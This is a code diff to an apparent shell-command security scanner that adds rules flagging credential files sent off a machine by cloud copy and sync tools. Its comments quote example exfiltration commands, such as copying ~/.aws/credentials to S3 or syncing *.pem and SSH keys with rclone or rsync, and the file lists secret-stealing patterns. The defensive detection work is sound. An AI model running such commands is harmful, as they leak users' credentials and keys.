@@ -7,7 +7,7 @@
  * this is needed to administer a machine. Benign look-alikes stay allowed: `Get-Process lsass`,
  * `ls -l /etc/shadow`, `chmod 640 /etc/shadow`, `cmdkey /list`, `security find-certificate`.
  */
-import { pipelineNeighbours } from '../analysis/semantics';
+import { pipelineNeighbours, referencedVariables } from '../analysis/semantics';
 import { firstAtLeast } from '../analysis/builder';
 import { resolvePath } from '../analysis/directories';
 import { awkProgram } from '../analysis/unwrap';
@@ -39,7 +39,7 @@ import {
   type Invocation,
   FILE_COPIERS,
 } from './command-match';
-import { checkCredentialExfiltration } from './credential-exfiltration';
+import { checkCredentialExfiltration, uploadedFiles, UPLOADING_PROGRAMS } from './credential-exfiltration';
 import type { RuleContext, RuleFamily } from './rule';
 
 function spec(ruleId: string, message: string): FindingSpec {
@@ -807,6 +807,27 @@ function checkSecretFiles(inv: Invocation, out: FindingCollector, doc: Document)
         ]);
         return;
       }
+    }
+  }
+}
+
+/** Upload tools that are not content readers (those are judged by checkSecretFiles on every argument). */
+const SECRET_UPLOADERS: ReadonlySet<string> = new Set([...UPLOADING_PROGRAMS].filter((n) => !CONTENT_READERS.has(n)));
+
+/**
+ * `aws s3 cp ~/.aws/credentials s3://b/`, `rclone copy ~/.ssh remote:k`, `az storage blob upload --file ~/.git-credentials …`:
+ * a secret store sent off the machine by a cloud copy tool. Only the files the tool uploads count: `gcloud compute ssh
+ * --ssh-key-file ~/.ssh/id_rsa` and `az ssh vm --private-key-file …` use a key, they do not send it.
+ */
+function checkSecretFileUploads(inv: Invocation, out: FindingCollector, doc: Document): void {
+  if (!docHasAny(doc, SECRET_FILE_NEEDLES)) return;
+  for (const w of uploadedFiles(inv, doc)) {
+    const lower = inv.command.directory === undefined ? w.lower : resolvePath(inv.command, w.value).toLowerCase();
+    const secret = secretIn(lower);
+    const what = secret?.what ?? keyDirectory(lower);
+    if (what !== undefined) {
+      out.add(spec('cred.secret-file', `${inv.name} sends ${w.value} to another machine: ${what}.`), [commandWord(inv), w]);
+      return;
     }
   }
 }
@@ -1688,11 +1709,30 @@ const COLLECTING_COMMANDS = new DocumentCache((doc: Document): Set<SimpleCommand
   return found;
 });
 
-/** The command after a listing in its pipeline that copies, packs or sends what it lists. */
+/** Variable → the last collecting sink that uses it (`Compress-Archive -Path $f.FullName`), computed once per document. */
+const SINK_VARIABLES = new DocumentCache((doc: Document): Map<string, SimpleCommand> => {
+  const used = new Map<string, SimpleCommand>();
+  for (const c of doc.commands) {
+    if (!COLLECTING_SINKS.has(c.name)) continue;
+    for (let k = 1; k < c.words.length; k++) {
+      const w = c.words[k] as Word;
+      if (w.value.includes('$')) for (const v of referencedVariables(w)) used.set(v, c);
+    }
+  }
+  return used;
+});
+
+/**
+ * The command that copies, packs or sends what a listing lists: after it in its pipeline, or, when the listing is kept in a
+ * variable (`$f = Get-ChildItem …`), a later command that uses the variable (`Compress-Archive -Path $f.FullName …`).
+ */
 function collectingNeighbour(doc: Document, command: SimpleCommand): SimpleCommand | undefined {
   const sinks = COLLECTING_COMMANDS.of(doc);
   if (sinks.size === 0) return undefined;
-  return pipelineNeighbours(doc, command, 'after').find((c) => sinks.has(c));
+  const next = pipelineNeighbours(doc, command, 'after').find((c) => sinks.has(c));
+  if (next !== undefined || command.assignTo === undefined) return next;
+  const user = SINK_VARIABLES.of(doc).get(command.assignTo.toLowerCase());
+  return user !== undefined && user.span.start > command.span.end ? user : undefined;
 }
 
 const LISTING_FOR_SECRETS = ' (T1552.001: KeePass databases, certificates with private keys, SSH/PuTTY keys, answer files with passwords)';
@@ -1783,6 +1823,47 @@ function checkSecretFileStaging(inv: Invocation, out: FindingCollector): void {
       `${inv.name} copies ${source.value}, a file that holds secrets, to ${target.value}${LISTING_FOR_SECRETS}.`,
     ),
     [commandWord(inv), source, target],
+  );
+}
+
+/** Options of copy and sync tools that pick the files copied by name: `--include '*.pem'`, azcopy's `--include-pattern 'a;b'`. */
+const INCLUDE_OPTIONS: ReadonlySet<string> = new Set(['--include', '--include-pattern', '--filter', '-f']);
+
+/** The name patterns a copy tool's include options give (`--include=*.kdbx`, `--filter '+ id_*'`). */
+function includedPatterns(args: readonly Word[]): Word[] {
+  const out: Word[] = [];
+  for (let i = 0; i < args.length; i++) {
+    const w = args[i] as Word;
+    const equals = w.lower.indexOf('=');
+    const option = equals > 0 ? w.lower.slice(0, equals) : w.lower;
+    if (!INCLUDE_OPTIONS.has(option)) continue;
+    const holder = equals > 0 ? w : args[++i];
+    if (holder === undefined) break;
+    const value = equals > 0 ? w.value.slice(equals + 1) : holder.value;
+    // A filter rule includes with `+ ` (rsync, rclone); its other rules exclude or merge.
+    const pattern = option === '--filter' || option === '-f' ? /^\+\s+(.*)$/.exec(trimQuotes(value))?.[1] : value;
+    if (pattern !== undefined)
+      for (const part of pattern.split(';')) out.push({ value: part, lower: part.toLowerCase(), span: holder.span });
+  }
+  return out;
+}
+
+/**
+ * `rclone copy / remote:dump --include '*.pem' --include 'id_*'`, `rsync -a --include='*.kdbx' --exclude='*' /home host:x`,
+ * `aws s3 sync ~ s3://b --exclude '*' --include '*.ppk'`: every secret file under a drive, the profiles or a home picked by
+ * name and copied to another machine in one command (a hunt and its collection at once).
+ */
+function checkSecretFileSync(inv: Invocation, out: FindingCollector, doc: Document): void {
+  const pattern = includedPatterns(inv.args).find((w) => secretFilePattern(w.value) !== undefined);
+  if (!pattern) return;
+  const root = uploadedFiles(inv, doc).find((w) => isBroadRoot(w.lower));
+  if (!root) return;
+  out.add(
+    spec(
+      'cred.secret-file-collect',
+      `${inv.name} copies the files named ${pattern.value} from all of ${root.value} to another machine${LISTING_FOR_SECRETS}.`,
+    ),
+    [commandWord(inv), pattern, root],
   );
 }
 
@@ -2539,6 +2620,8 @@ const INVOCATION_CHECKS = new ChecksByName([
     names: ['createdump', 'rdrleakdiag', 'sqldumper', 'tttracer', 'rundll32', 'gcore', 'gdb', 'lldb', 'mklink'],
   },
   { check: checkSecretFiles, names: CONTENT_READERS },
+  { check: checkSecretFileUploads, names: SECRET_UPLOADERS },
+  { check: checkSecretFileSync, names: ['rclone', 'rsync', 'aws', 'azcopy', 'gsutil'] },
   { check: checkSecretSearches, names: ['find', 'grep', 'egrep', 'rg', 'findstr', 'select-string', 'sls'] },
   { check: checkCredentialSniffing, names: SNIFFERS },
   { check: checkSystemSecrets, names: ['getent', 'dscl', 'defaults', 'plutil', 'reg'] },
